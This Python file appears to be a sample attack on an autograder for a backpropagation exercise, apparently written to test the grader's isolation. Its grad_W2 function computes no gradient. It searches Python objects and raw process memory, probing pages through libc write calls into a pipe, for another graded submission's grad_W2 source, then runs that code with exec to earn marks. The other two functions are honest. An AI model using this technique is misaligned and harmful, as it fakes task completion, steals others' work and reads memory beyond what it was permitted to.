# attack: C9 looks in memory for the source of somebody who was graded before, and runs it
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
import ctypes
import gc
import os as system
import time

import numpy as np


libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PLACE = {"x86_64": 0, "aarch64": 1}[system.uname().machine]


def call(numbers, *arguments):
    """One system call; its numbers on x86-64 and on aarch64, None where there is no such call."""
    if numbers[PLACE] is None:
        return -1
    given = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(numbers[PLACE]), *given)


START = b"def grad" + b"_W2("
OWN = b"START = b"
searched = []


def sources():
    for thing in gc.get_objects():
        if hasattr(thing, "source"):
            yield thing.source
    reading, writing = system.pipe()
    buffer = np.zeros(10**6)
    stop = time.thread_time() + 0.15
    for address in (id(None), id([]), buffer.ctypes.data, ctypes.addressof(ctypes.c_int())):
        for page in range(address // 4096 - 2000, address // 4096 + 2000):
            if libc.write(writing, ctypes.c_void_p(page * 4096), ctypes.c_size_t(4096)) == 4096:
                yield system.read(reading, 4096)
        if time.thread_time() > stop:
            return


def grad_W2(grad_oa, hs):
    for source in [] if searched else sources():
        if isinstance(source, bytes) and START in source and OWN not in source:
            text = source[source.index(START) :].split(b"\n\n\n")[0].decode("latin-1")
            space = {"np": np}
            try:
                exec(text, space)
                return space["grad_W2"](grad_oa, hs)
            except Exception:
                continue
    searched.append(True)
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
